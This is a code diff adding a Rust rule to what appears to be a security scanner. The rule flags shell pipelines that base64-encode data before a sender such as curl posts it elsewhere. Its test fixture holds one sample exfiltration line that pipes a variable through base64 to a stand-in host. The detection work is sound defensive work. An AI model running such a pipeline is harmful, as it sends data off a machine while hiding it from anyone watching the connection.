@@ -1,0 +1,40 @@
+//! Something is encoded on its way to another machine.
+
+use crate::command::{Step, is_sender};
+use crate::rule::{Category, Check, Hit, Rule, Severity, text};
+use crate::unit::{ANYWHERE, Unit};
+
+pub(super) const RULE: Rule = Rule {
+    id: "EXFIL_ENCODED_PIPED",
+    category: Category::Exfiltration,
+    severity: Severity::Critical,
+    title: "what is sent is encoded first",
+    why: "Data for a service is sent as it is. Encoding it on the way hides it from whoever looks at the connection.",
+    fix: "send plain data, or remove the command",
+    places: ANYWHERE,
+    anchors: &["base64", "xxd", "od -"],
+    check: Check::Unit(hits),
+    hits: &[text("```bash\necho \"$NAME\" | base64 | curl -X POST https://a.host.test/in --data @-\n```")],
+    misses: &[
+        text("```bash\nbase64 logo.png | pbcopy\n```"),
+        text("```bash\ncurl -s https://api.host.test/x | base64 -d > x.png\n```"),
+    ],
+};
+
+fn hits(unit: &Unit<'_>) -> Vec<Hit> {
+    unit.commands().steps().filter_map(hit).take(20).collect()
+}
+
+/// A sender whose input comes out of an encoder that reads from something else.
+fn hit(step: Step<'_>) -> Option<Hit> {
+    if !is_sender(&step.name()) {
+        return None;
+    }
+    let encoder = step.feeders().find(|from| {
+        let decodes =
+            from.has_short('d') || from.has_short('D') || from.has("--decode") || from.has_short('r');
+        matches!(from.name().as_str(), "base64" | "xxd" | "od" | "base32") && !decodes
+    })?;
+    let first = encoder.feeders().last()?;
+    Some(Hit::at(step.range_from(first)))
+}
